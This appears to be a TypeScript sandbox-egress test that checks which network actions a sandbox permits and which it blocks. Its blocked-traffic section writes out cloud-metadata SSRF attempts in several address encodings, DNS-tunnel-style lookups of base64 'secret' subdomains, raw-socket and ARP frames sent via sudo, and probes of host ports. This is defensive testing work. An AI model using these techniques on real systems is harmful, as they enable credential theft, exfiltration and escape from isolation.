// Runs inside a sandbox, alone: tries what should work there, and what should not. Its one argument is
// the `Aims` as JSON; what it found is its last line, `PROBE:<base64 of JSON>:END`.
import { execFile } from 'node:child_process';
import dgram from 'node:dgram';
import { readFileSync } from 'node:fs';
import { Resolver, lookup } from 'node:dns/promises';
import net from 'node:net';

/** Ports of the machine around the sandbox, where there is one to reach. */
export type Aims = { ports: Record<string, number> };
export type Tried = { ok: boolean; ms: number; said: string };
export type Found = Record<string, Tried>;

const found: Found = {};
const LATE_MS = 20_000;
const AT_ONCE_MS = 1_000;

async function timed(work: () => Promise<unknown>): Promise<Tried> {
  const begun = Date.now();
  const tried = await work().then(
    (said) => ({ ok: true, said: String(said) }),
    (error: unknown) => ({ ok: false, said: String(error) }),
  );
  return { ...tried, said: tried.said.slice(-600), ms: Date.now() - begun };
}

/** Does it, and writes down what came of it and how long it took. */
async function attempt(name: string, work: () => Promise<unknown>): Promise<void> {
  found[name] = await timed(work);
}

/** The same for what must fail at once. On a busy machine one may take longer; what waits for a limit does each time. */
async function inVain(name: string, work: () => Promise<unknown>): Promise<void> {
  const first = await timed(work);
  const second = first.ms < AT_ONCE_MS ? first : await timed(work);
  found[name] = { ...second, ok: first.ok || second.ok, ms: Math.min(first.ms, second.ms) };
}

function run(command: string, args: string[], ms = LATE_MS): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(command, args, { timeout: ms }, (error, stdout, stderr) => {
      if (error === null) resolve(stdout);
      else reject(new Error(`${error.code ?? error.signal}: ${stdout}${stderr}`));
    });
  });
}

/** Fails as curl does where nothing is reached; what is answered, is said with its status. */
const curl = (url: string, ...more: string[]) =>
  run('curl', ['-sS', '-m', '10', '-o', '-', '-w', '\n%{http_code}', ...more, url]);

function tcp(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port });
    socket.setTimeout(LATE_MS, () => reject(new Error('nothing came of it')));
    socket.once('connect', () => resolve('connected'));
    socket.once('error', reject);
  });
}

/** Says something, and waits for an answer: that it was taken down alone does not tell that it arrived. */
function talk(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port }, () => socket.write('SSH-2.0-probe\r\n\r\n'));
    socket.setTimeout(LATE_MS, () => reject(new Error('nothing came of it')));
    socket.once('data', () => resolve('answered'));
    socket.once('close', () => reject(new Error('it was closed')));
    socket.once('error', reject);
  });
}

/** A question to a name service, by hand: whatever comes back is an answer. */
function udp(host: string, family: 'udp4' | 'udp6' = 'udp4'): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket(family);
    socket.once('message', (answer) => resolve([...answer.subarray(-4)].join('.')));
    socket.once('error', reject);
    setTimeout(() => reject(new Error('nothing came of it')), 900).unref();
    const query = Buffer.from('000101000001000000000000076578616d706c6503636f6d0000010001', 'hex');
    socket.send(query, 53, host, (error) => {
      if (error !== null) reject(error);
    });
  });
}

/** Sends an echo request past TCP and UDP, as root where that can be had, and waits for its answer. */
const PING = `
import os, socket, struct
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    return ~((total >> 16) + (total & 0xffff)) & 0xffff
one = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
one.settimeout(0.5)
head = struct.pack("!BBHHH", 8, 0, 0, os.getpid() & 0xffff, 1)
one.sendto(head[:2] + struct.pack("!H", checksum(head)) + head[4:], ("1.1.1.1", 0))
print(one.recvfrom(100)[1])
`;
/** Asks the network's own door for its address by a frame of its own, past the system's rules. */
const FRAME = `
import socket, struct
route = [line.split() for line in open("/proc/net/route")][1:]
name, door = next((r[0], bytes.fromhex(r[2])[::-1]) for r in route if r[1] == "00000000")
one = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
one.bind((name, 0))
one.settimeout(0.5)
own = one.getsockname()[4]
frame = b"\\xff" * 6 + own + b"\\x08\\x06" + struct.pack("!HHBBH", 1, 2048, 6, 4, 1)
one.send(frame + own + bytes([10, 0, 0, 9]) + bytes(6) + door)
print(one.recv(100).hex())
`;
const python = (script: string, root: boolean) =>
  root ? run('sudo', ['-n', 'python3', '-c', script]) : run('python3', ['-c', script]);

/** The machine that this one is on, where it has a network: by its door, and by a name that an engine gives it. */
function machines(): string[] {
  const [, ...routes] = readFileSync('/proc/net/route', 'utf8').trim().split('\n');
  const doors = routes
    .map((line) => line.split('\t'))
    .filter(([, to]) => to === '00000000')
    .map(([, , door = '']) => [...Buffer.from(door, 'hex')].toReversed().join('.'));
  const names = /^\S+\s.*\b(host\.\w+\.internal)/m.exec(readFileSync('/etc/hosts', 'utf8'));
  return [...doors, ...(names?.[1] === undefined ? [] : [names[1]])];
}

const aims: Aims = JSON.parse(process.argv[2] ?? '{"ports":{}}');
const REGISTRY = 'https://registry.npmjs.org';
const PY =
  'import urllib.request as u; print(u.urlopen("https://pypi.org/simple/standin-thing/").status)';

// What has to work, through the default policy.
await attempt('node', async () => (await fetch(`${REGISTRY}/-/package.json`)).status);
await attempt('curl', () => curl(`${REGISTRY}/-/package.json`));
await attempt('git', () => run('git', ['ls-remote', `${REGISTRY}/things.git`]));
await attempt('python', () => run('python3', ['-c', PY]));
await attempt('pip', () =>
  run(
    'python3',
    ['-m', 'pip', 'install', '-q', '--no-cache-dir', '--target', 'py', 'standin-thing'],
    90_000,
  ),
);
await attempt('pip brought it', () =>
  run('python3', [
    '-c',
    'import sys; sys.path.insert(0, "py"); import standin_thing; print(standin_thing.WORD)',
  ]),
);
await attempt('npm ci', async () => {
  await run('sh', [
    '-c',
    `mkdir -p project && cd project && curl -sSfO ${REGISTRY}/-/package.json && curl -sSfO ${REGISTRY}/-/package-lock.json`,
  ]);
  await run('sh', ['-c', 'cd project && npm ci --no-progress'], 150_000);
  return run('sh', ['-c', 'ls project/node_modules | wc -l']);
});

/** Where this machine has the program: not every one does. */
async function attemptWith(command: string, work: () => Promise<unknown>): Promise<void> {
  if (await run('sh', ['-c', `command -v ${command}`]).catch(() => null))
    await attempt(command, work);
}
await attemptWith('go', () =>
  run('env', ['GONOSUMDB=*', 'go', 'list', '-m', '-versions', 'example.com/thing']),
);
// As root, which a jail has not: apt has a configuration of its own for whom to trust.
await attemptWith('sudo', async () => {
  const list = 'deb [trusted=yes] https://deb.debian.org/things ./';
  await run('sh', ['-c', `echo '${list}' > sources.list`]);
  const own = ['Dir::Etc::sourcelist=/tmp/probe/sources.list', 'Dir::Etc::sourceparts=-'];
  return run('sudo', ['-n', 'apt-get', 'update', '-qq', ...own.flatMap((one) => ['-o', one])]);
});

// What has not.
await inVain('another host', () => curl('https://example.com/'));
await inVain('another host in the clear', () => curl('http://example.com/'));
await inVain('a redirect inside', () => curl(`${REGISTRY}/moved`, '-L'));
await inVain('writing to a registry', () => curl(`${REGISTRY}/standin-0`, '-X', 'PUT', '-d', '{}'));
await inVain('metadata', () => curl('http://169.254.169.254/latest/meta-data/'));
await inVain('metadata, directly', () => curl('http://169.254.169.254/', '--noproxy', '*'));
await inVain('metadata, by its number', () => curl('http://2852039166/'));
await inVain('metadata, in hex', () => curl('http://0xa9fea9fe/'));
await inVain('metadata, as IPv6', () => curl('http://[::ffff:169.254.169.254]/'));
await inVain('link-local', () => curl('http://[fe80::1]/'));
await inVain('link-local, directly', () => tcp('fe80::1%lo', 80));
await inVain('a made-up name', () => curl('https://c2VjcmV0.tunnel.example/'));
await inVain('a made-up name, looked up', async () => {
  const { address } = await lookup('bG9va2Vk.tunnel.example');
  return address;
});
await inVain('a made-up name, asked for at a name service', () => {
  const resolver = new Resolver({ timeout: 900, tries: 1 });
  resolver.setServers(['1.1.1.1']);
  return resolver.resolve4('c2VjcmV0.tunnel.example');
});
await inVain('raw TCP', () => talk('1.1.1.1', 443));
await inVain('raw TCP at another port', () => talk('1.1.1.1', 22));
await inVain('raw UDP', () => udp('1.1.1.1'));
await inVain('raw TCP over IPv6', () => talk('2606:4700:4700::1111', 443));
await inVain('raw UDP over IPv6', () => udp('2606:4700:4700::1111', 'udp6'));
const canBeRoot = await run('sudo', ['-n', 'true']).then(
  () => true,
  () => false,
);
await inVain('a raw socket', () => python(PING, canBeRoot));
await inVain('a frame of its own', () => python(FRAME, canBeRoot));
for (const host of machines()) {
  for (const [name, port] of [['ssh', 22] as const, ...Object.entries(aims.ports)]) {
    await inVain(`${name}, at ${host}`, () => talk(host, port));
  }
}
for (const [name, port] of Object.entries(aims.ports)) {
  await inVain(`${name}, directly`, () => tcp('127.0.0.1', port));
  await inVain(`${name}, asked for`, () => curl(`http://127.0.0.1:${port}/api/health`));
  await inVain(`${name}, by proxy`, () =>
    curl(`http://localhost:${port}/api/health`, '--noproxy', ''),
  );
}
console.log(`PROBE:${Buffer.from(JSON.stringify(found)).toString('base64')}:END`);
process.exit(0);
